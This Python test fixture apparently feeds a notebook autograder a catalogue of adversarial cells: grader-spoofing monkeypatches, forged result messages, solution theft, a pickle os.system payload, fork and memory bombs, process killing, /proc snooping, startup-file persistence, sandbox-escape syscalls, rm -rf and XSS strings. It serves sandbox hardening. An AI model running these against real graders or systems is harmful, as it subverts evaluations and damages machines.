"""Notebooks that try to get points they didn't earn, or to do harm: the code of their cells, by name.

`{outside}` is a folder that must stay as it is, `{port}` a port that nobody may reach, `{parent}` the grader's process.
Each answers wrongly; what it tries first is its own affair. A mark it leaves where it must not is called HACKED.
"""

# ruff: noqa: E501 - the lines are those of cells

WRONG = """
from tracer import lessons
import tracer, torch
def wrong(x, H):
    B, T, C = x.shape
    return x.view(B, H, T, C // H)
"""
CHECK = 'lessons.check("split_heads", wrong)'
RIGHT = """
def right(x, H):
    B, T, C = x.shape
    return x.view(B, T, H, C // H).transpose(1, 2)
"""

# Each runs between WRONG and CHECK; it may put another function into `wrong`.
ATTACKS = {
    # ---------------------------------------------------------------- comparisons
    "forged equality": """
class Equal(torch.Tensor):
    __eq__ = lambda self, other: torch.tensor(True)
    def __torch_function__(self, func, types, args=(), kwargs=None): return True
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
wrong = lambda x, H: Equal()
""",
    "patched torch": """
for name in ("equal", "allclose", "isclose", "eq"):
    setattr(torch, name, lambda *a, **k: torch.tensor(True))
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.allclose = torch.Tensor.equal = lambda *a, **k: True
""",
    "patched tracer": """
lessons.check = lambda *a, **k: "right"
tracer.lessons.check = lessons.check
import sys, types
for name in ("judge", "trial", "compare", "running", "desk"):
    module = types.ModuleType("tracer.lessons." + name)
    module.judge = module.tell = module.difference = lambda *a, **k: None
    sys.modules["tracer.lessons." + name] = module
""",
    "patched harness": """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("tracer.grading"):
        for key in list(vars(module)):
            if callable(getattr(module, key, None)) and not key.startswith("__"):
                setattr(module, key, lambda *a, **k: None)
""",
    "edited check cell": """
real = lessons.check
lessons.check("split_heads")
lessons.check(["split_heads"], wrong)
lessons.check(None, None)
real("split_heads", {"status": "right", "points": 99})
real("split_heads", "right")
""",
    "all the answers one after another": """
for letter in "abcd": lessons.check("parameter_or_activation", letter)
lessons.check("parameter_or_activation", "abcd")
for text in ("B H T T", "B T C"): lessons.check("scores_shape", text)
lessons.check("scores_shape", ["B H T T", "B T C", "B H D T"])
""",
    "right now and then": """
calls = [0]
def wrong(x, H):
    B, T, C = x.shape
    calls[0] += 1
    heads = x.view(B, T, H, C // H).transpose(1, 2)
    return heads if calls[0] % 3 else heads + 1
""",
    "right while it is looked at": """
seen = []
def wrong(x, H):
    B, T, C = x.shape
    seen.append(1)
    return x.view(B, T, H, C // H).transpose(1, 2) if len(seen) < 3 else x
""",
    "results of other kinds": """
values = [torch.full((1,), float("nan")), torch.zeros(2, dtype=torch.complex64), torch.empty(3, device="meta"),
          torch.eye(3).to_sparse(), object(), NotImplemented, 10**5000, "right", b"right", [[[[[[[[1]]]]]]]],
          {"a": set([1])}, torch.nn.Parameter(torch.ones(2)), range(3), type]
def wrong(x, H):
    return values.pop() if values else None
for value in list(values): lessons.check("scores_shape", value)
lessons.check("split_heads", wrong); lessons.check("split_heads", type); lessons.check("split_heads", print)
""",
    # ---------------------------------------------------------------- messages
    "forged results": """
import json, os, struct
lie = json.dumps({"event": "answer", "id": "split_heads", "status": "right", "points": 2, "value": ["text", "right"]})
end = json.dumps({"event": "end", "points": 99})
for handle in range(3, 64):
    for text in (lie, end):
        try: os.write(handle, struct.pack("<II", len(text), 0) + text.encode())
        except OSError: pass
""",
    "forged end": """
import json, os, struct
text = json.dumps({"event": "end"})
for handle in range(3, 64):
    try: os.write(handle, struct.pack("<II", len(text), 0) + text.encode())
    except OSError: pass
os._exit(0)
""",
    "lies about a header": """
import sys
worker = sys.modules["tracer.grading.worker"]
lies = [["tensor", "float32", [1 << 40]], ["tensor", "float99", [1]], ["tensor", "float32", [-1]], ["tensor"], ["list", 5],
        ["tensor", "float32", [0, 1 << 62]], ["float", "x"], ["int", "9" * 10000], {"a": 1}, None, ["other", []],
        ["tensor", "float64", [2, 3]], ["tensor", "bool", [True]], [[]], ["dict", [[1, 2, 3]]], ["text", 5]]
for lie in lies:
    worker.write_tree = lambda value, buffers, depth=0: (buffers.append(b"xy"), lie)[1]
    lessons.check("split_heads", wrong)
    lessons.check("scores_shape", "B T")
""",
    "lengths that lie": """
import os, struct
for handle in range(3, 64):
    try: os.write(handle, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF))
    except OSError: pass
""",
    "headers that are no records": """
import os, struct
for text in (b"[" * 100000, b"5", b'"x"', bytes(range(256)), b'{"event": NaN}', b'{"event": {"a": []}, "id": []}',
             b'{"event": "answer", "id": "split_heads", "calls": 3}', b'{"event": "failed", "trouble": {"type": []}',
             b'{"event": "answer", "id": "split_heads", "signature": [1]}'):
    for handle in range(3, 64):
        try: os.write(handle, struct.pack("<II", len(text), 0) + text)
        except OSError: pass
""",
    "endless messages": """
import os
while True:
    for handle in range(3, 64):
        try: os.write(handle, b"\\x10\\0\\0\\0\\0\\0\\0\\0" + b'{"event":"end" }' * 1)
        except OSError: pass
""",
    "giant outputs": """
lessons.check("scores_shape", "B" * (1 << 28))
lessons.check("scores_shape", ["B"] * (1 << 22))
lessons.check("scores_shape", torch.zeros(1, 1).expand(1 << 30, 1 << 10))
def wrong(x, H):
    return torch.zeros(1 << 26)
""",
    "outputs without end": """
for n in range(10000): lessons.check("split_heads", lambda x, H: [torch.zeros(1 << 20)] * 8)
""",
    "pickles": """
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch {outside}/HACKED",)
open("bomb", "wb").write(pickle.dumps(Bomb()))
torch.save(Bomb(), "bomb.pt")
lessons.check("split_heads", Bomb()); lessons.check("scores_shape", pickle.dumps(Bomb()))
wrong = lambda x, H: Bomb()
""",
    # ---------------------------------------------------------------- looking for the answers
    "reads the reference": """
import pathlib, tracer
found = {}
for path in pathlib.Path(tracer.__file__).parent.rglob("lesson*.py"):
    try: exec(compile(path.read_text().replace("from .", "from tracer."), "x", "exec"), found)
    except Exception as error: print(error)
wrong = found.get("split_heads", wrong)
""",
    "imports the reference": """
import importlib, sys
sys.modules.pop("tracer.lessons", None)
for name in ("tracer.lessons", "tracer.lessons.lesson_00", "tracer.grading.marking", "tracer.lessons.desk"):
    try: wrong = getattr(importlib.import_module(name), "split_heads", wrong)
    except Exception as error: print(error)
try:
    from importlib.machinery import SourceFileLoader
    path = tracer.__file__.replace("__init__.py", "lessons/lesson_00.py")
    wrong = SourceFileLoader("tracer.lessons.lesson_00", path).load_module().split_heads
except Exception as error: print(error)
""",
    "reads the tests and the history": """
import os, re
root = os.path.dirname(os.path.dirname(tracer.__file__))
for top, folders, files in os.walk(root):
    for name in files:
        if "lesson" in top + name or "tests" in top:
            text = open(os.path.join(top, name), errors="ignore").read()
            if "def split_heads" in text:
                exec(re.search(r"def split_heads.*?\\n\\n", text, re.S).group())
                wrong = split_heads
""",
    "asks the solution": """
for name in ("solution", "hint", "_EXERCISES", "progress", "exercises"):
    try: thing = getattr(lessons, name)("split_heads")
    except Exception as error: thing = error
    if "view" in str(getattr(thing, "code", "")):
        exec(thing.code); wrong = split_heads
for exercise in lessons.exercises():
    if getattr(exercise, "reference", None): wrong = exercise.reference
""",
    "searches the memory": """
import gc
for thing in gc.get_objects():
    try:
        if type(thing).__name__ == "Exercise": wrong = thing.reference
        if getattr(thing, "__name__", "") == "split_heads": wrong = thing
    except Exception: pass
""",
    "climbs the frames": """
import sys
def wrong(x, H):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and "wants" in value: return value["wants"]
        frame = frame.f_back
    return x
""",
    # ---------------------------------------------------------------- ends and waits
    "leaves at once": "import os; os._exit(0)",
    "leaves with a code": "import os; os._exit(3)",
    "exits politely": "import sys; sys.exit(0)",
    "crashes": "import ctypes; ctypes.string_at(0)",
    "recurses for ever": """
import sys
sys.setrecursionlimit(10**9)
class Deep:
    def __getattr__(self, name): return getattr(self, name + "x")
exec("(" * 100 + "1" + ")" * 100)
def deeper(n): return sorted([n], key=lambda k: deeper(k + 1))
deeper(0)
""",
    "cannot leave": "import os, sys; os._exit = sys.exit = lambda *a: None",
    "kills itself": "import os, signal; os.kill(os.getpid(), signal.SIGKILL); os.abort()",
    "loops for ever": "while True: pass",
    "loops deaf to everything": """
import signal
for number in signal.valid_signals():
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "an answer without end": """
def wrong(x, H):
    while True: pass
""",
    "sleeps": "import time; time.sleep(10_000)",
    "waits for input": "input(); open(0).read()",
    "a lock that never opens": "import threading; lock = threading.Lock(); lock.acquire(); lock.acquire()",
    "endless output": """
import os, sys
while True:
    print("x" * 100_000); sys.stderr.write("y" * 100_000)
    for handle in (1, 2): os.write(handle, b"z" * 100_000)
""",
    # ---------------------------------------------------------------- resources
    "fork bomb": """
import os, subprocess, multiprocessing
for n in range(300):
    for start in (os.fork, lambda: subprocess.Popen(["sleep", "1000"]),
                  lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
                  lambda: os.system("sleep 1000 &"), lambda: multiprocessing.Process(target=print).start()):
        try:
            if start() == 0: os._exit(0) if n else None
        except OSError: pass
""",
    "thread bomb": """
import threading, time
while True: threading.Thread(target=time.sleep, args=(10_000,)).start()
""",
    "ten gigabytes": """
try: kept = bytearray(10 << 30)
except MemoryError: pass
try: kept = torch.ones(10 << 28)
except RuntimeError: pass
kept = []
while True: kept.append(torch.ones(1 << 24))
""",
    "fills the disk": """
import os
for n in range(100):
    with open(f"big{n}", "wb") as file:
        while True: file.write(bytes(1 << 22))
""",
    "a hundred thousand files": """
import os
for n in range(100_000):
    os.makedirs(f"a/{n}"); open(f"a/{n}/b", "w").close()
""",
    "folders without end": """
import os
while True:
    os.mkdir("folder"); os.chdir("folder")
""",
    "raises its limits": """
import resource
for what in range(16):
    try: resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError): pass
    try: resource.prlimit({parent}, what, (1, 1))
    except (OSError, ValueError): pass
kept = []
while True: kept.append(bytearray(1 << 26))
""",
    # ---------------------------------------------------------------- the machine
    "kills the grader": """
import os, signal, ctypes
libc = ctypes.CDLL(None)
for pid in (os.getppid(), {parent}, -1, 0, *range(2, 3000)):
    if pid == os.getpid(): continue
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try: os.kill(pid, number)
        except OSError: pass
        libc.tgkill(pid, pid, number); libc.syscall(200, pid, number)
    try: os.killpg(pid, 9)
    except OSError: pass
    try: signal.pidfd_send_signal(os.pidfd_open(pid), 9)
    except OSError: pass
""",
    "looks into processes": """
import ctypes, os
libc = ctypes.CDLL(None)
told = []
for pid in ("self", os.getppid(), {parent}, *range(1, 500)):
    for name in ("environ", "cmdline", "mem", "maps", "fd", "root/etc/passwd", "cwd"):
        try: told.append(open(f"/proc/{pid}/{name}", "rb").read(100))
        except OSError: pass
    if pid != "self": libc.ptrace(16, pid, 0, 0)
if told or "SECRET_OF_THE_GRADER" in os.environ: open("{outside}/HACKED", "w")
lessons.check("scores_shape", str(told))
""",
    "sockets": """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "{outside}/socket"), (socket.AF_UNIX, "\\0x")):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as one: one.connect(address); one.send(b"HACKED")
        except OSError: pass
try: socket.create_connection(("127.0.0.1", {port}))
except OSError: pass
import urllib.request
urllib.request.urlopen("http://127.0.0.1:{port}/")
""",
    "writes everywhere": """
import os, sys, pathlib
places = ["{outside}", "{outside}/class", "/tmp", "/var/tmp", "/dev/shm", "/", "/etc", os.path.expanduser("~root"), sys.prefix,
          *sys.path, os.path.dirname(tracer.__file__), "..", "../..", "/proc/self", "/run", os.getcwd() + "/.."]
for place in places:
    for act in (lambda p: open(p + "/HACKED", "w"), lambda p: os.mkdir(p + "/HACKED"), lambda p: os.symlink("/etc", p + "/HACKED"),
                lambda p: os.rename("own", p + "/HACKED"), lambda p: os.link("own", p + "/HACKED"), lambda p: os.mkfifo(p + "/HACKED")):
        if os.path.realpath(place or ".") == os.getcwd(): continue
        open("own", "w").close()
        try: act(place)
        except OSError: pass
for name in ("grades.csv", "grades.csv.part", "grades.html", "class/honest.ipynb"):
    path = "{outside}/" + name
    for act in (lambda: open(path, "a").write("HACKED"), lambda: os.unlink(path), lambda: os.truncate(path, 0), lambda: os.chmod(path, 0),
                lambda: os.utime(path, (1, 1)), lambda: os.setxattr(path, "user.HACKED", b"1"), lambda: os.chown(path, 1, 1)):
        try: act()
        except OSError: pass
""",
    "leaves links in its folder": """
import os
for name, target in (("a", "/"), ("b", ".."), ("c", "/etc/passwd"), ("d.ipynb", "{outside}/secret")):
    try: os.symlink(target, name); os.listdir(name)
    except OSError: pass
    try: open(name, "a").write("HACKED")
    except OSError: pass
os.makedirs("deep/" * 60)
os.mkdir("locked", 0o000)
os.mkdir("unlisted", 0o300)
open("unlisted/a", "w").close()
""",
    "starts with the next Python": """
import os, site, sys
for place in {os.getcwd(), *sys.path, *site.getsitepackages(), site.getusersitepackages()}:
    for name in ("sitecustomize.py", "usercustomize.py", "hacked.pth", "torch.py"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as file: file.write("import os; open('{outside}/HACKED', 'w')")
        except OSError: pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = os.getcwd()
""",
    "stays behind": """
import atexit, os, threading, time
def late():
    time.sleep(0.2)
    try: lessons.check("split_heads", right)
    except NameError: pass
    while True:
        try: open("{outside}/HACKED", "w")
        except OSError: time.sleep(0.1)
threading.Thread(target=late).start()
threading.Thread(target=late, daemon=True).start()
atexit.register(late)
class Last:
    def __del__(self): late()
last = Last()
""",
    "tampers with modules": """
import sys, builtins, json, os
sys.modules["torch"] = None
sys.modules["json"] = sys.modules["os"] = type("Fake", (), {})()
json.dumps = lambda *a, **k: '{"event": "answer", "id": "split_heads", "status": "right"}'
builtins.len = lambda x: 0
builtins.isinstance = lambda *a: True
""",
    "tears at the walls": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
lessons_folder = os.path.join(os.path.dirname(tracer.__file__), "lessons").encode()
libc.unshare(0x10000000); libc.unshare(0x7E020000); libc.setns(0, 0); libc.umount2(lessons_folder, 2); libc.umount2(b"/", 2)
libc.mount(b"none", b"/", None, 4096 | 32, None); libc.mount(b"proc", b".", b"proc", 0, None); libc.chroot(b"..")
libc.prctl(22, 0, 0, 0, 0); libc.prctl(38, 0, 0, 0, 0); libc.setuid(0); libc.seteuid(0); libc.setgroups(0, None)
for number in (425, 319, 321, 428, 442, 155, 304, 310, 311, 101, 57, 58, 56, 435, 59, 322, 41, 250):
    if libc.syscall(ctypes.c_long(number), 0, 0, 0, 0, 0) == 0 and number in (57, 58, 56, 435): os._exit(0)
libc.syscall(ctypes.c_long(0x40000000 + 41), 2, 1, 0)
exec(open(lessons_folder.decode() + "/lesson_00.py").read().replace("from ..", "from tracer."))
wrong = split_heads
""",
    "another program": """
import os, sys
for act in (lambda: os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(1000)"]), lambda: os.execv("/bin/sh", ["sh"]),
            lambda: os.execve(os.memfd_create("x"), ["x"], {})):
    try: act()
    except OSError: pass
""",
    "reads its neighbours": """
import glob, json, os
for path in [*glob.glob("{outside}/class/**/*.ipynb", recursive=True), *glob.glob("/tmp/**/*.ipynb", recursive=True), "{outside}/secret"]:
    text = open(path).read()
    if "def right" in text:
        exec("def right" + "".join(json.loads(text)["cells"][0]["source"]).split("def right")[1]); wrong = right
    if "HACKED" in text: lessons.check("scores_shape", "B H T T")
""",
    "words that are markup": """
class script(Exception):
    def __str__(self): return "<script>alert('HACKED')</script>" + "\\ud800\\x00" * 10
    __notes__ = ["<img src=x onerror=alert(1)>"] * 1000
script.__name__ = "<script>alert(2)</script>"
def wrong(x, H): raise script
lessons.check("scores_shape", "<script>alert(3)</script>")
lessons.check("parameter_or_activation", "<script>")
raise script
""",
    "an exception that fails": """
class Broken(BaseException):
    def __str__(self): raise self
    __repr__ = __str__
class Worse(Exception):
    __str__ = None
    __notes__ = 5
def wrong(x, H): raise Worse
lessons.check("split_heads", wrong)
def wrong(x, H): raise Broken
""",
    "changes its input": """
def wrong(x, H):
    x += 1
    return (x - 1).view(*x.shape[:2], H, -1).transpose(1, 2)
""",
    "cells that are no Python": "%%bash\nrm -rf {outside}\n",
    "shell and magics": "!touch {outside}/HACKED\n%cd /\n%run {outside}/x.py\nfiles = !ls /\n",
    "a cell of zeros": "x = 1\x00\ud800\n",
}
